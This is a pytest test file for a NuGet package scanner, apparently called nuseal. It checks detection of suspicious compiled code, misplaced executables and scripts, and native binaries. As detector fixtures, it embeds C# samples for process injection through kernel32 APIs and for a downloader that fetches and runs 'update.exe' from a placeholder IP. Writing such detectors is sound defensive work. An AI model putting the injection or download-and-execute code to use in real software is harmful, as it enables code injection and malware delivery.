"""Compiled code (nuseal.scan.compiled): DLLs compiled by the tests with Mono's mcs and with Roslyn (the oracle's
driver), scanned inside packages; placement of executables and scripts; the real vectors stay quiet."""

from __future__ import annotations

import io
import os
import random
import shutil
import struct
import subprocess
import zipfile
from pathlib import Path

import pytest

from nuseal.scan.clrmeta import Metadata, PeFile
from nuseal.scan.compiled import (
    MAX_PE_BYTES,
    MAX_PE_BYTES_OPTION,
    PeInfo,
    analyse,
    analysers,
    inspect_native,
    inspect_pe,
    placement,
)
from nuseal.scan.engine import ScanContext, Scanner
from nuseal.scan.model import Finding, Severity
from nuseal.scan.package import ScanPackage
from nuseal.scan.rules import load_rules
from support import oracle

from .scan_support import VECTORS, make_nupkg, nuspec

INJECTOR_CS = """
using System;
using System.Runtime.InteropServices;
public static class Injector {
    [DllImport("kernel32.dll")] static extern IntPtr OpenProcess(uint access, bool inherit, int pid);
    [DllImport("kernel32.dll")]
    static extern IntPtr VirtualAllocEx(IntPtr p, IntPtr a, uint size, uint type, uint prot);
    [DllImport("kernel32.dll")]
    static extern bool WriteProcessMemory(IntPtr p, IntPtr a, byte[] b, uint n, out UIntPtr w);
    [DllImport("kernel32.dll")]
    static extern IntPtr CreateRemoteThread(IntPtr p, IntPtr attr, uint stack, IntPtr start, IntPtr arg,
                                            uint f, IntPtr id);
    public static void Run(int pid, byte[] code) {
        IntPtr h = OpenProcess(0x1F0FFF, false, pid);
        IntPtr mem = VirtualAllocEx(h, IntPtr.Zero, (uint)code.Length, 0x3000, 0x40);
        UIntPtr written;
        WriteProcessMemory(h, mem, code, (uint)code.Length, out written);
        CreateRemoteThread(h, IntPtr.Zero, 0, mem, IntPtr.Zero, 0, IntPtr.Zero);
    }
}
"""
ALLOCATOR_CS = """
using System;
using System.Runtime.InteropServices;
public static class Jit {
    [DllImport("kernel32", EntryPoint = "VirtualAlloc")]
    static extern IntPtr Alloc(IntPtr a, UIntPtr n, uint t, uint p);
    [DllImport("kernel32.dll")] static extern IntPtr GetCurrentProcess();
    public static IntPtr Page() { GetCurrentProcess(); return Alloc(IntPtr.Zero, (UIntPtr)4096, 0x3000, 0x40); }
}
"""
DOWNLOADER_CS = """
using System.Diagnostics;
using System.IO;
using System.Net;
public static class Updater {
    public static void Check() {
        string path = Path.Combine(Path.GetTempPath(), "update.exe");
        new WebClient().DownloadFile("http://203.0.113.7/payload/update.exe", path);
        Process.Start(path);
    }
}
"""
HARMLESS_CS = """
using System.Net;
public static class Client {
    public static string Fetch(string url) { return new WebClient().DownloadString(url); }
}
"""
MODULE_INITIALIZER_CS = """
using System.Runtime.CompilerServices;
namespace Woven {
    internal static class Payload {
        [ModuleInitializer]
        internal static void Run() { System.Console.WriteLine("runs when the assembly loads"); }
    }
    public static class Calculator { public static int Add(int a, int b) { return a + b; } }
}
"""


def _mcs(tmp: Path, name: str, source: str) -> bytes:
    mcs = shutil.which("mcs")
    if mcs is None:
        pytest.skip("Mono's mcs is not installed (scripts/install-system-deps.sh installs mono-mcs)")
    src = tmp / f"{name}.cs"
    src.write_text(source, encoding="utf-8")
    out = tmp / f"{name}.dll"
    subprocess.run([mcs, "-target:library", "-nologo", f"-out:{out}", str(src)], check=True, capture_output=True)
    return out.read_bytes()


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    tmp = tmp_path_factory.mktemp("mcs")
    return {
        name: _mcs(tmp, name, src)
        for name, src in [
            ("Injector", INJECTOR_CS),
            ("Jit", ALLOCATOR_CS),
            ("Updater", DOWNLOADER_CS),
            ("Client", HARMLESS_CS),
        ]
    }


def scan(files: dict[str, bytes | str], package_id: str = "Contoso.Tests") -> list[Finding]:
    rules = load_rules()
    scanner = Scanner(rules, analysers=analysers(ScanContext()))
    report = scanner.scan(ScanPackage.from_bytes(make_nupkg(package_id, files=files), source="t.nupkg"))
    return [f for f in report.findings if f.rule_id.startswith(("NS4", "NS9"))]


def rules_of(findings: list[Finding]) -> list[tuple[str, Severity]]:
    return sorted((f.rule_id, f.severity) for f in findings)


def test_process_injection_pinvoke_is_an_error(built: dict[str, bytes]) -> None:
    [finding] = scan({"lib/net45/Contoso.Tests.dll": built["Injector"]})
    assert (finding.rule_id, finding.severity) == ("NS4011", Severity.ERROR)
    for api in ("kernel32!VirtualAllocEx", "kernel32!WriteProcessMemory", "kernel32!CreateRemoteThread"):
        assert api in finding.evidence
    assert finding.location.path == "lib/net45/Contoso.Tests.dll" and finding.file_sha256


def test_virtualalloc_alone_is_a_warning_via_entry_point(built: dict[str, bytes]) -> None:
    [finding] = scan({"lib/net45/Contoso.Tests.dll": built["Jit"]})
    assert (finding.rule_id, finding.severity) == ("NS4011", Severity.WARNING)
    assert finding.evidence == "kernel32!VirtualAlloc"  # GetCurrentProcess is not an injection API


def test_downloader_with_process_start(built: dict[str, bytes]) -> None:
    [finding] = scan({"lib/net45/Contoso.Tests.dll": built["Updater"]})
    assert (finding.rule_id, finding.severity) == ("NS4012", Severity.WARNING)
    assert "System.Net.WebClient::DownloadFile" in finding.evidence
    assert "System.Diagnostics.Process::Start" in finding.evidence
    assert "http://203.0.113.7/payload/update.exe" in finding.evidence


def test_download_without_execution_is_not_a_downloader(built: dict[str, bytes]) -> None:
    assert scan({"lib/net45/Contoso.Tests.dll": built["Client"]}) == []
    info = inspect_pe(built["Client"])
    assert info.is_dotnet and info.downloads == ["System.Net.WebClient::DownloadString"] and not info.executes
    assert not info.module_initializer  # mcs never emits <Module>::.cctor


@pytest.mark.oracle
def test_module_initializer_compiled_by_roslyn(tmp_path: Path) -> None:
    reason = oracle.oracle_unavailable_reason()
    if reason:
        pytest.skip(reason)
    toolchain = oracle.ORACLE_HOME / "cache"
    dotnet, roslyn = toolchain / "dotnet" / "dotnet", toolchain / "roslyn"
    frameworks = sorted((toolchain / "dotnet" / "shared" / "Microsoft.NETCore.App").glob("8.*"))
    if not (dotnet.is_file() and (roslyn / "rcsc.exe").is_file() and frameworks):
        pytest.skip(f"the oracle's Roslyn driver is not set up under {toolchain}")
    src = tmp_path / "Woven.cs"
    src.write_text(MODULE_INITIALIZER_CS, encoding="utf-8")
    out = tmp_path / "Woven.dll"
    refs = [f"-r:{f}" for f in sorted(frameworks[0].glob("*.dll")) if f.name != "Microsoft.VisualBasic.dll"]
    subprocess.run(
        [str(dotnet), "exec", "--runtimeconfig", str(roslyn / "rcsc.runtimeconfig.json"), str(roslyn / "rcsc.exe"),
         str(roslyn), str(out), "dll", str(src), *refs],
        check=True, capture_output=True, timeout=300,
    )  # fmt: skip
    [finding] = scan({"lib/net8.0/Contoso.Tests.dll": out.read_bytes()})
    assert (finding.rule_id, finding.severity) == ("NS4010", Severity.WARNING)
    assert finding.evidence == "<Module>::.cctor"


def _native_pe(machine: int, pe32_plus: bool) -> bytes:
    """The headers of a native PE (no CLR directory): DOS header, PE signature, COFF, optional header."""
    opt_size = 240 if pe32_plus else 224
    dos = bytearray(64)
    dos[:2] = b"MZ"
    struct.pack_into("<I", dos, 0x3C, 64)
    coff = struct.pack("<HHIIIHH", machine, 0, 0, 0, 0, opt_size, 0x2022)
    opt = bytearray(opt_size)
    struct.pack_into("<H", opt, 0, 0x20B if pe32_plus else 0x10B)
    struct.pack_into("<I", opt, 108 if pe32_plus else 92, 16)
    return bytes(dos) + b"PE\x00\x00" + coff + bytes(opt) + bytes(512)


def test_native_pe_is_a_note_with_its_architecture() -> None:
    findings = scan(
        {
            "runtimes/win-x64/native/e_sqlite3.dll": _native_pe(0x8664, True),
            "runtimes/win-arm64/native/e_sqlite3.dll": _native_pe(0xAA64, True),
            "runtimes/win-x86/native/e_sqlite3.dll": _native_pe(0x14C, False),
        }
    )
    assert rules_of(findings) == [("NS4003", Severity.NOTE)] * 3
    assert sorted(f.evidence.rsplit(" ", 1)[1] for f in findings) == ["ARM64", "x64", "x86"]


def test_malformed_pe_is_a_finding_not_a_crash(built: dict[str, bytes]) -> None:
    good = built["Client"]
    bsjb = good.index(b"BSJB")  # the metadata root (ECMA-335 II.24.2.1)
    broken_metadata = good[:bsjb] + b"XXXX" + good[bsjb + 4 :]
    truncated = good[: len(good) // 3]
    findings = scan(
        {
            "lib/net45/a.dll": b"MZ" + b"\x00" * 100,
            "lib/net45/b.dll": b"not a PE file at all",
            "lib/net45/c.dll": broken_metadata,
            "lib/net45/d.dll": truncated,
        }
    )
    assert rules_of(findings) == [("NS4004", Severity.WARNING)] * 4
    assert {f.location.path for f in findings} == {
        "lib/net45/a.dll",
        "lib/net45/b.dll",
        "lib/net45/c.dll",
        "lib/net45/d.dll",
    }


@pytest.mark.parametrize(
    ("path", "rule"),
    [
        ("content/setup.exe", "NS4001"),
        ("payload.exe", "NS4001"),
        ("lib/net45/helper.exe", "NS4001"),
        ("content/Contoso.dll", "NS4001"),
        ("images/x.dll", "NS4001"),
        ("install.bat", "NS4002"),
        ("build/run.sh", "NS4002"),
        ("content/Scripts/start.vbs", "NS4002"),
        ("lib/net45/init.ps1", "NS4002"),
        ("start.js", "NS4002"),
        ("build/postinstall.js", "NS4002"),
        # where real packages keep them
        ("tools/migrate.exe", None),
        ("tools/net452/ILMerge.exe", None),
        ("runtimes/win-x64/native/tool.exe", None),
        ("Fody.dll", None),
        ("build/net35/NUnit3.TestAdapter.dll", None),
        ("analyzers/dotnet/cs/Analyzer.dll", None),
        ("tasks/net472/csc.exe", None),  # Microsoft.Net.Compilers.Toolset
        ("Sdk/Contoso.Build.Tasks.dll", None),  # an MSBuild SDK package
        ("tools/psake/psake.cmd", None),
        ("tools/init.ps1", None),
        ("Content/Scripts/jquery-1.10.2.js", None),
        ("contentFiles/any/any/wwwroot/app.js", None),
        ("staticwebassets/app.mjs", None),
        ("README.md", None),
    ],
)
def test_placement(path: str, rule: str | None) -> None:
    assert placement(path) == rule


def test_powershell_module_packages_hold_their_scripts() -> None:
    module = {
        "Contoso.Tools.psd1": "@{ RootModule = 'Contoso.Tools.psm1' }",
        "Contoso.Tools.psm1": "",
        "Public/Get-X.ps1": "",
    }
    assert scan(module) == []
    assert rules_of(scan({"Public/Get-X.ps1": ""})) == [("NS4002", Severity.WARNING)]
    assert rules_of(scan({**module, "run.bat": "@echo off"})) == [("NS4002", Severity.WARNING)]


def test_misplaced_files_in_a_package(built: dict[str, bytes]) -> None:
    findings = scan({"content/tools/update.exe": built["Client"], "install.cmd": "@echo off\r\n"})
    assert rules_of(findings) == [("NS4001", Severity.WARNING), ("NS4002", Severity.WARNING)]


@pytest.mark.parametrize("path", VECTORS, ids=[p.name for p in VECTORS])
def test_real_packages_raise_nothing(path: Path) -> None:
    """The 20 real packages (EntityFramework's migrate.exe, ILMerge, Fody's root DLLs, jQuery's scripts, 60+
    assemblies) produce no compiled-code finding at all, and nothing from the identity rules."""
    from nuseal.scan import lookalike  # noqa: PLC0415

    rules = load_rules()
    scanner = Scanner(rules, analysers=(*analysers(ScanContext()), *lookalike.analysers(ScanContext())))
    report = scanner.scan(ScanPackage.from_bytes(path.read_bytes(), source=str(path)))
    assert report.package.id
    assert [(f.rule_id, f.location.path) for f in report.findings] == []


# ---------------------------------------------------------------- large files, native ELF/Mach-O, cache, ref/
def _stored_nupkg(files: dict[str, bytes], package_id: str = "Contoso.Tests") -> bytes:
    """Entries stored (not deflated): large padded files would otherwise look like zip bombs."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr(f"{package_id}.nuspec", nuspec(package_id, "1.0.0"))
        for name, content in files.items():
            z.writestr(name, content)
    return buf.getvalue()


def scan_bounded(files: dict[str, bytes], max_pe_bytes: int) -> list[Finding]:
    context = ScanContext(options=((MAX_PE_BYTES_OPTION, str(max_pe_bytes)),))
    scanner = Scanner(load_rules(), analysers=analysers(context))
    report = scanner.scan(ScanPackage.from_bytes(_stored_nupkg(files), source="t.nupkg"))
    return [f for f in report.findings if f.rule_id.startswith(("NS4", "NS9"))]


def test_large_native_pe_is_a_note_from_its_headers() -> None:
    big = _native_pe(0x8664, True) + os.urandom(3 << 20)
    [finding] = scan_bounded({"runtimes/win-x64/native/libcef.dll": big}, max_pe_bytes=1 << 20)
    assert (finding.rule_id, finding.severity) == ("NS4003", Severity.NOTE)
    assert "x64" in finding.message and "headers read" in finding.message


def test_large_assembly_is_analysed_within_a_bounded_read(built: dict[str, bytes]) -> None:
    # An assembly with a large overlay after its metadata (as embedded resources and signatures sit).
    big = built["Updater"] + os.urandom(3 << 20)
    [finding] = scan_bounded({"lib/net45/Contoso.Tests.dll": big}, max_pe_bytes=1 << 20)
    assert finding.rule_id == "NS4012" and "http://203.0.113.7/payload/update.exe" in finding.evidence
    # Metadata ending beyond the bound is not read: "not analysed", never a guess.
    small_bound = built["Updater"].index(b"BSJB") + 8
    [skipped] = scan_bounded({"lib/net45/Contoso.Tests.dll": big}, max_pe_bytes=small_bound)
    assert (skipped.rule_id, skipped.severity) == ("NS9004", Severity.WARNING)
    assert "metadata ends at byte" in skipped.message


@pytest.mark.slow
def test_native_pe_over_the_default_bound_is_a_note() -> None:
    big = _native_pe(0xAA64, True) + os.urandom(MAX_PE_BYTES + (1 << 20))
    [finding] = scan_bounded({"runtimes/win-arm64/native/libcef.dll": big}, max_pe_bytes=MAX_PE_BYTES)
    assert (finding.rule_id, finding.severity) == ("NS4003", Severity.NOTE) and "ARM64" in finding.message


def _elf(machine: int, etype: int = 3) -> bytes:
    ident = b"\x7fELF" + bytes([2, 1, 1]) + bytes(9)  # 64-bit, little-endian, version 1
    return ident + struct.pack("<HHI", etype, machine, 1) + bytes(200)


def _macho(cpu: int, filetype: int) -> bytes:
    return b"\xcf\xfa\xed\xfe" + struct.pack("<IIIIII", cpu, 0, filetype, 0, 0, 0) + bytes(200)


def test_elf_and_macho_outside_runtimes_are_notes_with_architecture() -> None:
    findings = scan(
        {
            "lib/netstandard2.0/libpayload.so": _elf(62),
            "tools/helper": _elf(183, etype=2),
            "lib/netstandard2.0/libhelper.so.1.2": _elf(62),
            "content/libnative.dylib": _macho(0x0100000C, 6),
            # NuGet's native layout: not reported
            "runtimes/linux-x64/native/libe_sqlite3.so": _elf(62),
            "runtimes/osx-arm64/native/libe_sqlite3.dylib": _macho(0x0100000C, 6),
            # not native: a Java class file shares the fat Mach-O magic; text without an extension
            "tools/Main": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(64),
            "LICENSE": b"MIT License\n",
        }
    )
    assert rules_of(findings) == [("NS4005", Severity.NOTE)] * 4
    by_path = {f.location.path: f.message for f in findings}
    assert "ELF shared object or executable for x64 64-bit" in by_path["lib/netstandard2.0/libpayload.so"]
    assert "ELF executable for ARM64 64-bit" in by_path["tools/helper"]
    assert "Mach-O dynamic library for ARM64" in by_path["content/libnative.dylib"]


def test_inspect_native_reads_fat_macho_and_rejects_others() -> None:
    fat = b"\xca\xfe\xba\xbe" + struct.pack(">I", 2) + struct.pack(">IIIII", 0x01000007, 3, 0, 0, 0)
    fat += struct.pack(">IIIII", 0x0100000C, 0, 0, 0, 0)
    info = inspect_native(fat)
    assert info is not None and info.machine == "universal (x64, ARM64)"
    assert inspect_native(b"\x7fEL") is None and inspect_native(b"MZ" + bytes(100)) is None


def test_same_assembly_is_parsed_once_per_scanner(built: dict[str, bytes]) -> None:
    rules = load_rules()
    cache: dict[tuple[str, tuple[str, ...]], PeInfo] = {}
    first = ScanPackage.from_bytes(make_nupkg("A.Pkg", files={"lib/net45/A.dll": built["Updater"]}), source="a")
    second = ScanPackage.from_bytes(make_nupkg("B.Pkg", files={"lib/net45/B.dll": built["Updater"]}), source="b")
    [a] = list(analyse(first, rules, cache=cache))
    assert len(cache) == 1
    [info] = cache.values()
    [b] = list(analyse(second, rules, cache=cache))
    assert len(cache) == 1 and next(iter(cache.values())) is info
    assert (a.rule_id, a.evidence, a.file_sha256) == (b.rule_id, b.evidence, b.file_sha256)
    assert b.location.path == "lib/net45/B.dll"


def test_reference_assemblies_are_not_analysed(built: dict[str, bytes]) -> None:
    assert scan({"ref/net45/Contoso.Tests.dll": built["Injector"]}) == []
    assert [f.rule_id for f in scan({"lib/net45/Contoso.Tests.dll": built["Injector"]})] == ["NS4011"]


def test_hostile_metadata_never_raises(built: dict[str, bytes]) -> None:
    """Random byte flips over the headers and metadata of a real assembly: every result is a PeInfo (parsed or
    ``malformed``), never an exception, and the reader stays bounded (each call is quick)."""
    good = bytearray(built["Updater"])
    start = good.index(b"BSJB")
    rng = random.Random(14)
    for _ in range(400):
        mutated = bytearray(good)
        for _ in range(rng.randint(1, 8)):
            at = rng.choice((rng.randrange(0, 0x200), rng.randrange(start, len(good))))
            mutated[at] = rng.randrange(256)
        info = inspect_pe(bytes(mutated))
        assert isinstance(info, PeInfo)


@pytest.mark.slow
def test_reader_agrees_with_dnfile_on_real_assemblies() -> None:
    """Differential check of nuseal.scan.clrmeta against dnfile (the library it replaced) on real assemblies from
    the vectors: TypeRef, MemberRef, ModuleRef, ImplMap and MethodDef names row by row."""
    dnfile = pytest.importorskip("dnfile")
    checked = 0
    for vector in VECTORS:
        if vector.name not in ("RestSharp.106.11.4.nupkg", "ILMerge.3.0.41.nupkg", "dockpanelsuite.3.1.0.nupkg"):
            continue
        pkg = ScanPackage.from_bytes(vector.read_bytes(), source=str(vector))
        for path in pkg.paths:
            if not path.lower().endswith((".dll", ".exe")):
                continue
            data = pkg.read(path, limit=1 << 26)
            pe = PeFile(data)
            md = Metadata(data, *pe.metadata_span())
            theirs = dnfile.dnPE(data=data).net.mdtables
            for table, column in [
                ("TypeRef", "TypeName"),
                ("TypeRef", "TypeNamespace"),
                ("MemberRef", "Name"),
                ("ModuleRef", "Name"),
                ("ImplMap", "ImportName"),
                ("MethodDef", "Name"),
            ]:
                rows = getattr(theirs, table)
                expected = [str(getattr(r, column) or "") for r in rows] if rows else []
                assert [md.string(v) for (v,) in md.columns(table, column)] == expected, (path, table, column)
            checked += 1
            if checked >= 4:
                return
    assert checked, "no assembly found in the vectors"
